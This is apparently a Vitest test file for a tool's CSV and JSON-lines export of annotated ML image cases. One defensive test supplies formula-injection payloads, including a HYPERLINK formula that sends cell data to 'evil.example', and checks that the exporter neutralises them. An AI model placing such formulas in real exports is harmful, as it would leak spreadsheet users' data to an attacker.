import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { AnnotateRequest, ListCasesRequest } from '../../src/shared/contract';
import { runCli } from '../../src/main/cli';
import { CaseService } from '../../src/main/lab/cases/cases';
import { csvHeader, exportCaseTable } from '../../src/main/lab/export/case-table';
import { csvField } from '../../src/main/lab/export/csv';
import { writeFileAtomically } from '../../src/main/lab/export/atomic';
import { caseStudy, CNN, MCD, type CaseStudy } from '../cases/fixture';
import { captureIo } from '../helpers/io';
import { tempDir } from '../helpers/lab';

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes; anything else throws. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text[i])}`);
  }
  if (record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

let study: CaseStudy;
afterEach(() => study.db.close());

const NOTE = 'a deer, "taken" for a truck,\nthen a frog; really';

function setup(): CaseService {
  study = caseStudy();
  const cases = new CaseService(study);
  cases.annotate(
    AnnotateRequest.parse({
      datasetId: study.datasetId,
      split: 'test',
      index: 0,
      addTags: ['interesting', 'mislabelled?'],
      note: NOTE,
    }),
  );
  return cases;
}

const list = (runs: number[], filter = {}) => {
  const { offset: _o, limit: _l, ...rest } = ListCasesRequest.parse({ runs, filter });
  return rest;
};
const CLASSES = ['deer', 'frog', 'truck'];

describe('export-cases tables', () => {
  it('CSV round-trips through a strict parser, note with commas, quotes and a newline included', () => {
    const cases = setup();
    const file = join(tempDir(), 'cases.csv');
    const runs = [study.runIds[0], study.runIds[2]];
    // pages of 4 over 6 images: two queries
    expect(exportCaseTable(cases, file, { list: list(runs), classes: CLASSES, format: 'csv', pageSize: 4 })).toEqual({
      rows: 6,
    });
    const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
    const [cnn, mcd] = runs;
    expect(header).toEqual(csvHeader(runs, CLASSES));
    expect(header?.slice(0, 8)).toEqual([
      'index',
      'true_class',
      `run${cnn}_predicted`,
      `run${cnn}_p_deer`,
      `run${cnn}_p_frog`,
      `run${cnn}_p_truck`,
      `run${cnn}_confidence`,
      `run${cnn}_entropy`,
    ]);
    expect(rows).toHaveLength(6);
    const column = (name: string) => header!.indexOf(name);
    const expected = cases.list(ListCasesRequest.parse({ runs, limit: 10 })).items;
    rows.forEach((row, i) => {
      const item = expected[i]!;
      expect(row).toHaveLength(header!.length);
      expect(Number(row[column('index')])).toBe(item.index);
      expect(row[column('true_class')]).toBe(item.trueClass);
      expect(row[column(`run${cnn}_predicted`)]).toBe(CLASSES[CNN[i]![0]]);
      expect(Number(row[column(`run${mcd}_confidence`)])).toBe(MCD[i]![1]);
      expect(Number(row[column(`run${mcd}_mutual_information`)])).toBe(MCD[i]![3]);
      // the CNN has no mutual information: an empty cell; the MC-dropout run has no explanation
      expect(row[column(`run${cnn}_mutual_information`)]).toBe('');
      expect(row[column(`run${mcd}_background`)]).toBe('');
      const p = CLASSES.map((name) => Number(row[column(`run${mcd}_p_${name}`)]));
      expect(p).toEqual(item.runs[1]!.probabilities);
    });
    expect(rows[0]![column('note')]).toBe(NOTE);
    expect(rows[0]![column('tags')]).toBe('interesting; mislabelled?');
    expect(rows[1]![column('note')]).toBe('');
  });

  it('CSV text cells that a spreadsheet would evaluate get a leading quote (OWASP); numbers stay numbers', () => {
    const cases = setup();
    // issue 19, part 3: the notes and tags that were written as they are
    const notes = [
      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1)',
      '\tTAB first',
      '\r=1+2',
    ];
    const tags = ['=1+2', '+SUM(1,2)', '-2+3', '@SUM(A1)'];
    notes.forEach((note, index) =>
      cases.annotate(
        AnnotateRequest.parse({ datasetId: study.datasetId, split: 'test', index, note, addTags: [tags[index % 4]] }),
      ),
    );
    const file = join(tempDir(), 'cases.csv');
    exportCaseTable(cases, file, { list: list([...study.runIds]), classes: CLASSES, format: 'csv' });
    const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
    const column = (name: string) => header!.indexOf(name);
    expect(rows.map((row) => row[column('note')])).toEqual(notes.map((note) => `'${note}`));
    expect(rows[1]![column('tags')]).toBe(`'+SUM(1,2)`);
    expect(rows[2]![column('tags')]).toBe(`'-2+3`);
    expect(rows[3]![column('tags')]).toBe(`'@SUM(A1)`);
    expect(rows[4]![column('tags')]).toBe(`'=1+2`);
    // every cell: text never starts a formula; numeric cells are bare numbers
    for (const row of rows)
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)), cell).toBe(false);
    expect(rows[0]![column('index')]).toBe('0');
    expect([-2, -0, -0.5, 1e-7, -1e21].map(csvField)).toEqual(['-2', '0', '-0.5', '1e-7', '-1e+21']);
    expect(['-', 'plain', '', "'=x"].map(csvField)).toEqual(["'-", 'plain', '', "'=x"]);
  });

  it('JSON lines parse, with the runs nested and the probabilities by class', () => {
    const cases = setup();
    const file = join(tempDir(), 'cases.jsonl');
    exportCaseTable(cases, file, {
      list: list([...study.runIds], { outcome: 'wrong' }),
      classes: CLASSES,
      format: 'jsonl',
      pageSize: 1,
    });
    const lines = readFileSync(file, 'utf8').trimEnd().split('\n');
    const total = cases.list(ListCasesRequest.parse({ runs: [...study.runIds], filter: { outcome: 'wrong' } })).total;
    expect(lines).toHaveLength(total);
    const first = JSON.parse(lines[0]!) as Record<string, unknown>;
    expect(first).toMatchObject({ index: 0, split: 'test', trueClass: 'deer', tags: ['interesting', 'mislabelled?'] });
    expect(first.note).toBe(NOTE);
    const runs = first.runs as { runId: number; probabilities: Record<string, number>; background: number | null }[];
    expect(runs.map((r) => r.runId)).toEqual([...study.runIds]);
    expect(runs[0]!.probabilities).toEqual({ deer: 0.015000000000000013, frog: 0.015000000000000013, truck: 0.97 });
    expect(runs[0]!.background).toBe(0.8);
  });

  it('never leaves a half-written file: a failing export keeps the old content and no temporary file', () => {
    const cases = setup();
    const dir = tempDir();
    const file = join(dir, 'cases.csv');
    writeFileSync(file, 'the old table\r\n');
    expect(() => exportCaseTable(cases, file, { list: list([999]), classes: CLASSES, format: 'csv' })).toThrow(
      /no run with id 999/,
    );
    expect(readFileSync(file, 'utf8')).toBe('the old table\r\n');
    expect(readdirSync(dir)).toEqual(['cases.csv']);
    writeFileAtomically(file, 'new');
    expect(readFileSync(file, 'utf8')).toBe('new');
    expect(readdirSync(dir)).toEqual(['cases.csv']);
  });

  it('casebook export-cases writes the table of a database file; refuses an unknown extension', async () => {
    setup();
    const dir = tempDir();
    const db = join(dir, 'study.db');
    writeFileSync(db, study.db.serialize());
    const out = join(dir, 'wrong.csv');
    const io = captureIo();
    const argv = ['export-cases', '--runs', study.runIds.join(','), '--filter', 'class:deer', '--out', out, '--db', db];
    expect(await runCli(argv, io)).toBe(0);
    expect(io.err()).toContain(`2 image(s) written to ${out}`);
    const rows = parseCsv(readFileSync(out, 'utf8'));
    expect(rows.map((r) => r[1])).toEqual(['true_class', 'deer', 'deer']);
    const io2 = captureIo();
    expect(await runCli(['export-cases', '--runs', '1', '--out', join(dir, 'x.xlsx'), '--db', db], io2)).toBe(2);
    expect(io2.err()).toContain('must end in .csv or .jsonl');
  });
});
